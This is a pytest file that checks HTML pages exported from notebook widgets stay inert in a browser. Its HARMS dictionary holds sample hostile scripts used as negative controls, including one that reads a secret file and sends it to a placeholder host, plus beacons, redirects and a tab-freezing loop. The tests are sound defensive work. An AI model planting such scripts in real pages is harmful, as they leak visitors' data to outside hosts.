"""A page that `clvwidgets export` or `to_html` made of something hostile, opened in a browser.

Whoever gets a page by mail opens it from their disk, where no server's headers protect them;
whoever finds it on a site shares an address with all that the site has. The page must protect
itself.
"""

from __future__ import annotations

import functools
import threading
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from clvwidgets.course import export_notebook
from clvwidgets.display.page import page_with
from clvwidgets.display.panel_json import PANEL_MIME

from . import cases
from .charts import SECRET
from .harm import answers, leads, look_around, state, wait_until_readable

# `clvwidgets export` refuses this one in a sentence: see tests/course.
EXPORTED = [name for name in cases.ALL if name != "is_nested_without_end"]
PANELS = [name for name in cases.ALL if PANEL_MIME in cases.bundle(name, "")]
# Pages that nobody protects, each with harm that comes late.
HARMS = {
    "asks_by_a_timer": "<script>setTimeout(() => { new Image().src = 'THERE'; })</script>",
    "asks_when_clicked": "<script>onclick = () => fetch('THERE')</script>",
    "sends_away_what_was_answered": (
        "<script>onclick = async () => { const of = await fetch('secret.txt');"
        "new Image().src = 'THERE?' + await of.text(); }</script>"
    ),
    "runs_a_script_after_an_answer": (
        "<script>onclick = () => fetch('harm.html').then(() => { __pwned = 1; })</script>"
    ),
    "leaves_for_another_address": "<meta http-equiv=refresh content='0; url=THERE'>",
    "leads_elsewhere": "<script>onclick = () => { document.body.innerHTML += "
    "'<a href=THERE>x</a>'; }</script>",
    "stands_still": "<script>onclick = () => { for (;;); }</script>",
}


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *_words: object) -> None:
        """Stay silent."""


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """Serve a folder, as a site does; the folder and its address."""
    folder = tmp_path_factory.mktemp("site")
    (folder / "secret.txt").write_text(SECRET)
    handler = functools.partial(_Quiet, directory=str(folder))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield folder, f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()


@pytest.fixture
def opened(tab, foreign_host):
    """Open a page; nothing has happened to anybody, and there is something to read."""
    page = tab.page
    asked = []
    unharmed = []

    def note(request):
        asked.append(request.url)

    def open_(address):
        page.on("request", note)
        page.goto(address, wait_until="commit")
        assert answers(page), "the tab is frozen"
        readable = wait_until_readable(page, "main")
        look_around(page, "main img, main svg, main")
        assert answers(page), "the tab is frozen"
        assert foreign_host.heard == []
        own = (address, "data:", "blob:", "about:", address.rsplit("/", 1)[0] + "/favicon.ico")
        assert [url for url in asked if not url.startswith(own)] == []
        assert page.url == address
        now = state(page)
        assert (now["canary"], now["polluted"], now["bindings"]) == (None, None, 0)
        assert now["display"] != "none"
        assert "hers" not in page.title()
        assert leads(page, foreign_host.url) == []
        assert readable, "nothing to read"
        unharmed.append(address)

    yield open_
    foreign_host.heard.clear()
    page.remove_listener("request", note)
    if not unharmed:
        tab.close()


@pytest.mark.parametrize("case", EXPORTED)
def test_an_exported_notebook_does_nothing(opened, foreign_host, tmp_path, case):
    output = new_output("display_data", cases.bundle(case, foreign_host.url))
    nbformat.write(new_notebook(cells=[new_code_cell("x", outputs=[output])]), tmp_path / "x.ipynb")
    opened(export_notebook(tmp_path / "x.ipynb").as_uri())


@pytest.mark.parametrize("case", PANELS)
def test_a_page_of_a_panel_does_nothing(opened, foreign_host, site, case):
    folder, address = site
    stored = cases.bundle(case, foreign_host.url)[PANEL_MIME]
    (folder / f"{case}.html").write_text(page_with(stored, title="Page", lang="en"))
    opened(f"{address}/{case}.html")


@pytest.mark.parametrize("harm", HARMS)
def test_a_page_that_does_harm_is_found_out(opened, foreign_host, site, monkeypatch, harm):
    """A look that ends before the harm is done would call everything harmless."""
    for limit in ("ANSWERS_MS", "READS_MS"):
        monkeypatch.setattr(f"{answers.__module__}.{limit}", 2000)
    folder, address = site
    body = HARMS[harm].replace("THERE", f"{foreign_host.url}/{harm}")
    (folder / "harm.html").write_text(f"<title>Page</title><main>Words {body}</main>")
    with pytest.raises(AssertionError):
        opened(f"{address}/harm.html")
